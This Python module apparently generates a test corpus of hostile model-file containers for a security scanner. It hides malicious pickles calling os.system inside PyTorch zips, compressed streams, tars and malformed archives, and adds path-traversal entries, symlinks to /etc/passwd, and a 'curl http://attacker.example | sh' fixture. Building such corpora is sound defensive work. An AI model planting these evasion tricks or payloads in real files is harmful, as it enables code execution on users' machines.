"""Hostile containers: the harm of one pickle behind archives, compressions and contradictions."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping

import lz4.frame
import zstandard
from integrity.inspect.corpus.assembler import call, glob, stack_glob, stream, system, text
from integrity.inspect.corpus.pickles import tarred

_HARM = system()
_CALM = b"\x80\x02}q\x00."


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_STORED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
        archive.comment = comment
    return out.getvalue()


def local(name: bytes, content: bytes, method: int = 0, flags: int = 0, size: int | None = None) -> bytes:
    """A local file header with its content; `size` states another packed size than the true one."""
    stated = len(content) if size is None else size
    return (
        struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0, zlib.crc32(content), stated, stated, len(name), 0
        )
        + name
        + content
    )


def central(name: bytes, content: bytes, at: int, method: int = 0, flags: int = 0, size: int | None = None) -> bytes:
    stated = len(content) if size is None else size
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            flags,
            method,
            0,
            0,
            zlib.crc32(content),
            stated,
            stated,
            len(name),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        + name
    )


def end(count: int, size: int, at: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, at, 0)


def by_hand(*members: tuple[bytes, bytes], hidden: tuple[tuple[bytes, bytes], ...] = (), **odd: int) -> bytes:
    body, directory = b"", b""
    for name, content in members:
        directory += central(name, content, len(body), **odd)
        body += local(name, content, **odd)
    for name, content in hidden:
        body += local(name, content)
    return body + directory + end(len(members), len(directory), len(body))


def _torch(root: str = "archive", harm: bytes = _HARM, method: int = zipfile.ZIP_STORED) -> bytes:
    return zipped({f"{root}/data.pkl": harm, f"{root}/version": b"3\n", f"{root}/data/0": bytes(64)}, method)


def _with_crc_broken(content: bytes) -> bytes:
    return content.replace(struct.pack("<I", zlib.crc32(_HARM)), b"\xde\xad\xbe\xef")


def zips() -> Iterator[tuple[str, bytes]]:
    torch = _torch()
    yield "torch.pt", torch
    yield "torch_deflated.pt", _torch(method=zipfile.ZIP_DEFLATED)
    yield "torch_no_root.pt", zipped({"data.pkl": _HARM})
    yield "torch_other_pickle.pt", zipped({"archive/data.pkl": _CALM, "archive/extra/data.pkl": _HARM})
    yield "torch_storage_is_pickle.pt", zipped({"archive/data.pkl": _CALM, "archive/data/0": _HARM})
    yield (
        "torch_constants.pt",
        zipped({"m/data.pkl": _CALM, "m/constants.pkl": _HARM, "m/code/__torch__.py": b"x: int\n"}),
    )
    yield (
        "torch_mobile.ptl",
        zipped({"m/data.pkl": _CALM, "m/bytecode.pkl": _HARM, "m/mobile_debug_handles.pkl": _HARM}),
    )
    yield (
        "torch_package.pt",
        zipped({"p/.data/extern_modules": b"", "p/m/model.pkl": _CALM, "p/m/evil.py": b"import os\nos.system('id')\n"}),
    )
    yield (
        "torchscript_reads_file.pt",
        zipped(
            {
                "m/data.pkl": _CALM,
                "m/constants.pkl": _CALM,
                "m/code/__torch__.py": b"def forward(self):\n  return torch.from_file('/etc/passwd', True, 1)\n",
            }
        ),
    )
    yield (
        "torchscript_save.pt",
        zipped(
            {
                "m/data.pkl": _CALM,
                "m/constants.pkl": _CALM,
                "m/code/__torch__.py": b"def forward(self, x):\n  torch.save(x, '/home/user/.bashrc')\n  return x\n",
            }
        ),
    )
    yield (
        "torchscript_ops.pt",
        zipped(
            {
                "m/data.pkl": _CALM,
                "m/constants.pkl": _CALM,
                "m/code/__torch__/net.py": b"def forward(self, x):\n  return ops.evil.run(x)\n",
            }
        ),
    )
    yield "crc_broken.pt", _with_crc_broken(torch)
    yield "prefix.pt", b"#!/bin/sh\nexit 0\n" + torch
    yield "prefix_picture.png", b"\x89PNG\r\n\x1a\n" + bytes(200) + torch
    yield "appended_zip.pkl", _CALM + torch
    yield "appended_zip.safetensors", _safetensors() + torch
    yield "appended_zip.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8) + torch
    yield "appended_zip.npy", _npy() + torch
    yield "two_zips.pt", zipped({"archive/data.pkl": _CALM}) + torch
    yield "two_zips_other_way.pt", torch + zipped({"archive/data.pkl": _CALM})
    yield "in_comment.pt", zipped({"archive/data.pkl": _CALM}, comment=torch[:60000])
    yield "pickle_in_comment.pt", zipped({"archive/data.pkl": _CALM}, comment=_HARM)
    yield "trailing_pickle.pt", zipped({"archive/data.pkl": _CALM}) + _HARM
    yield "leading_pickle.pt", _HARM + zipped({"archive/data.pkl": _CALM})
    yield "hidden_local.pt", by_hand((b"archive/data.pkl", _CALM), hidden=((b"archive/data.pkl", _HARM),))
    yield "only_local.pt", local(b"archive/data.pkl", _HARM)
    yield "names_differ.pt", _names_differ()
    yield "duplicate_names.pt", by_hand((b"archive/data.pkl", _CALM), (b"archive/data.pkl", _HARM))
    yield "duplicate_other_way.pt", by_hand((b"archive/data.pkl", _HARM), (b"archive/data.pkl", _CALM))
    yield "overlapping.pt", _overlapping()
    yield "encrypted_flag.pt", by_hand((b"archive/data.pkl", _HARM), flags=1)
    yield "strong_encryption_flag.pt", by_hand((b"archive/data.pkl", _HARM), flags=0x41)
    yield (
        "encrypted_truly.zip",
        by_hand((b"archive/data.pkl", bytes(range(12)) + bytes(b ^ 0x5A for b in _HARM)), flags=1),
    )
    yield "aes.zip", by_hand((b"archive/data.pkl", bytes(range(40))), method=99, flags=1)
    yield "method_unknown.zip", by_hand((b"archive/data.pkl", _HARM), method=250)
    yield "method_deflate64.zip", by_hand((b"archive/data.pkl", _HARM), method=9)
    yield "method_ppmd.zip", by_hand((b"archive/data.pkl", bytes(40)), method=98)
    yield "method_says_deflate.zip", by_hand((b"archive/data.pkl", _HARM), method=8)
    yield "size_zero.zip", by_hand((b"archive/data.pkl", _HARM), size=0)
    yield "size_huge.zip", by_hand((b"archive/data.pkl", _HARM), size=0x7FFFFFFF)
    yield "directory_size_zero.zip", _directory_size_zero()
    yield "count_lies.zip", _count_lies()
    yield "no_end_record.zip", torch[: torch.rindex(b"PK\x05\x06")]
    yield "end_record_lies.zip", torch[:-6] + b"\xff\xff\xff\x7f" + torch[-2:]
    yield "zip64.zip", _zip64()
    yield "data_descriptor.zip", _streamed()
    yield "slip.zip", zipped({"../../home/user/.bashrc": b"id\n"})
    yield "slip_absolute.pt", zipped({"archive/data.pkl": _CALM, "/etc/cron.d/x": b"id\n"})
    yield "slip_backslash.pt", zipped({"archive/data.pkl": _CALM, "..\\..\\x.pth": b"import os\n"})
    yield "slip_drive.pt", zipped({"archive/data.pkl": _CALM, "C:\\Windows\\x.dll": b"x"})
    yield "name_no_extension.zip", zipped({"weights": _HARM})
    yield "name_as_text.zip", zipped({"README.md": _HARM})
    yield "name_directory.zip", by_hand((b"archive/data.pkl/", _HARM))
    yield "name_nul.zip", by_hand((b"data.pkl\x00.txt", _HARM))
    yield (
        "wheel.whl",
        zipped({"evil/__init__.py": b"import os\nos.system('id')\n", "evil-1.0.dist-info/METADATA": b"Name: evil\n"}),
    )
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA), ("deflated", zipfile.ZIP_DEFLATED)):
        yield f"method_{name}.zip", zipped({"a.pkl": _HARM}, method)
    yield "method_zstd.zip", _packed_zip(zstandard.ZstdCompressor().compress(_HARM), 93)
    yield "method_xz.zip", _packed_zip(lzma.compress(_HARM), 95)


def _packed_zip(packed: bytes, method: int) -> bytes:
    return by_hand((b"a.pkl", packed), method=method)


def _safetensors() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    return struct.pack("<Q", len(header)) + header + bytes(8)


def _npy() -> bytes:
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(8)


def _names_differ() -> bytes:
    body = local(b"archive/data.pkl", _HARM)
    directory = central(b"archive/notes.md", _HARM, 0)
    return body + directory + end(1, len(directory), len(body))


def _overlapping() -> bytes:
    inner = local(b"archive/data.pkl", _HARM)
    body = local(b"archive/data/0", bytes(16) + inner)
    at = body.index(inner)
    directory = central(b"archive/data/0", bytes(16) + inner, 0) + central(b"archive/data.pkl", _HARM, at)
    return body + directory + end(2, len(directory), len(body))


def _directory_size_zero() -> bytes:
    """The directory states size 0 and the local header the truth."""
    body = local(b"archive/data.pkl", _HARM)
    directory = central(b"archive/data.pkl", _HARM, 0, size=0)
    return body + directory + end(1, len(directory), len(body))


def _count_lies() -> bytes:
    body = local(b"a.txt", b"hello") + local(b"archive/data.pkl", _HARM)
    directory = central(b"a.txt", b"hello", 0) + central(b"archive/data.pkl", _HARM, len(local(b"a.txt", b"hello")))
    return body + directory + end(1, len(directory), len(body))


def _zip64() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, archive.open("archive/data.pkl", "w", force_zip64=True) as member:
        member.write(_HARM)
    return out.getvalue()


class _NoSeek(io.RawIOBase):
    def __init__(self) -> None:
        self.content = b""

    def writable(self) -> bool:
        return True

    def write(self, chunk: object) -> int:
        self.content += bytes(chunk)  # type: ignore[call-overload]
        return len(bytes(chunk))  # type: ignore[call-overload]


def _streamed() -> bytes:
    out = _NoSeek()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[arg-type]
        archive.writestr("archive/data.pkl", _HARM)
    return out.content


def compressions() -> Iterator[tuple[str, bytes]]:
    torch = _torch()
    yield "pickle.pkl.gz", gzip.compress(_HARM, mtime=0)
    yield "two_members.pkl.gz", gzip.compress(_CALM, mtime=0) + gzip.compress(_HARM, mtime=0)
    yield "trailing.pkl.gz", gzip.compress(_CALM, mtime=0) + _HARM
    yield "cut.pkl.gz", gzip.compress(_HARM + bytes(1000), mtime=0)[:-9]
    yield "crc_broken.pkl.gz", gzip.compress(_HARM, mtime=0)[:-8] + bytes(8)
    yield "deflate_trailing.pkl.z", zlib.compress(_CALM) + zlib.compress(_HARM)
    yield "bz2_two.pkl.bz2", bz2.compress(_CALM) + bz2.compress(_HARM)
    yield "xz_padded.pkl.xz", lzma.compress(_CALM) + bytes(8) + lzma.compress(_HARM)
    yield "zstd.pkl.zst", zstandard.ZstdCompressor().compress(_HARM)
    yield "zstd_two.pkl.zst", zstandard.ZstdCompressor().compress(_CALM) + zstandard.ZstdCompressor().compress(_HARM)
    yield "zstd_skippable.pkl.zst", b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd" + zstandard.ZstdCompressor().compress(_HARM)
    yield "lz4.pkl.lz4", lz4.frame.compress(_HARM)
    yield "lz4_two.pkl.lz4", lz4.frame.compress(_CALM) + lz4.frame.compress(_HARM)
    yield "zip_in_tar_zst.tar.zst", zstandard.ZstdCompressor().compress(tarred({"m/a.zip": torch}))
    yield "tar_in_zip_in_gz.gz", gzip.compress(zipped({"a.tar": tarred({"m.pkl": _HARM})}), mtime=0)
    yield (
        "six_levels.bin",
        gzip.compress(
            bz2.compress(lzma.compress(zlib.compress(zipped({"a": gzip.compress(_HARM, mtime=0)})))), mtime=0
        ),
    )
    yield "no_extension_gz", gzip.compress(_HARM, mtime=0)
    yield "named_txt.txt", gzip.compress(_HARM, mtime=0)
    yield (
        "stack_global_in_zip.tar.gz",
        gzip.compress(tarred({"m.zip": zipped({"x": stream(call(stack_glob("os", "system"), text("id")))})}), mtime=0),
    )
    yield (
        "protocol0_in_all.tar.zst",
        zstandard.ZstdCompressor().compress(
            tarred({"m.zip": zipped({"x": b"Vposix\nVsystem\n\x93(Vid\ntR."}, zipfile.ZIP_LZMA)})
        ),
    )


def tars() -> Iterator[tuple[str, bytes]]:
    yield "plain.tar", tarred({"a.txt": b"hello", "m/model.pkl": _HARM})
    yield "legacy_torch.tar", tarred({"storages": _CALM, "tensors": _CALM, "pickle": _HARM})
    yield "checksum_broken.tar", _tar_checksum_broken()
    yield "slip.tar", tarred({"../../home/user/.ssh/authorized_keys": b"x"})
    yield "symlink.tar", _tar_link(tarfile.SYMTYPE)
    yield "hardlink.tar", _tar_link(tarfile.LNKTYPE)
    yield "second_archive.tar", tarred({"a.txt": b"hello"}) + tarred({"m.pkl": _HARM})
    yield "behind_end.tar", tarred({"a.txt": b"hello"}) + _HARM
    yield "device.tar", _tar_link(tarfile.CHRTYPE)
    yield "size_lies.tar", _tar_size_lies()
    yield "named_nemo.nemo", tarred({"./model_config.yaml": b"target: os.system\n", "./model_weights.ckpt": _HARM})
    yield (
        "named_nemo_gz.nemo",
        gzip.compress(tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": _torch()}), mtime=0),
    )
    yield "v7.tar", _tar_v7()
    yield "pax_path.tar", _tar_pax()
    yield "sparse.tar", _tar_sparse()


def _tar_checksum_broken() -> bytes:
    found = bytearray(tarred({"m.pkl": _HARM}))
    found[148:156] = b"0000000\x00"
    return bytes(found)


def _tar_link(kind: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("weights.bin")
        entry.type, entry.linkname = kind, "/etc/passwd"
        archive.addfile(entry)
    return out.getvalue()


def _tar_size_lies() -> bytes:
    found = bytearray(tarred({"a.txt": b"hello" * 200, "m.pkl": _HARM}))
    found[124:136] = b"77777777777\x00"
    found[148:156] = b" " * 8
    found[148:156] = b"%06o\x00 " % sum(found[:512])
    return bytes(found)


def _tar_v7() -> bytes:
    found = bytearray(tarred({"m.pkl": _HARM}))
    found[257:265] = bytes(8)
    found[148:156] = b" " * 8
    found[148:156] = b"%06o\x00 " % sum(found[:512])
    return bytes(found)


def _tar_pax() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        entry = tarfile.TarInfo("readme.txt")
        entry.size, entry.pax_headers = len(_HARM), {"path": "m/" + "x" * 200 + ".pkl"}
        archive.addfile(entry, io.BytesIO(_HARM))
    return out.getvalue()


def _tar_sparse() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("m.pkl")
        entry.size, entry.type = len(_HARM), b"7"
        archive.addfile(entry, io.BytesIO(_HARM))
    return out.getvalue()


def executables() -> Iterator[tuple[str, bytes]]:
    yield (
        "llamafile.llamafile",
        b"MZqFpD='\n"
        + bytes(2000)
        + zipped({".args": b"-m\nmodel.gguf\n", "model.gguf": b"GGUF" + bytes(20), "m.pkl": _HARM}),
    )
    yield "elf_named.bin", b"\x7fELF\x02\x01\x01" + bytes(4000)
    yield "pe_named.safetensors", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(500)
    yield "shell_named.pt", b"#!/bin/sh\ncurl http://attacker.example | sh\n"
    yield "html_named.onnx", b"<html><script>alert(1)</script></html>"
    yield "seven.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)
    yield "rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60)
    yield "seven_as_pickle.pkl", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)
    yield (
        "elf_in_zip.pt",
        zipped({"archive/data.pkl": _CALM, "archive/lib/evil.so": b"\x7fELF\x02\x01\x01" + bytes(400)}),
    )
    yield "pth_in_zip.pt", zipped({"archive/data.pkl": _CALM, "site-packages/x.pth": b"import os;os.system('id')\n"})
    yield "computed_global.bin", stream(call(glob("builtins", "chr"), b"K\x70") + text("system") + b"\x93" + b")R")


def hostile_containers() -> Iterator[tuple[str, bytes]]:
    yield from zips()
    yield from compressions()
    yield from tars()
    yield from executables()
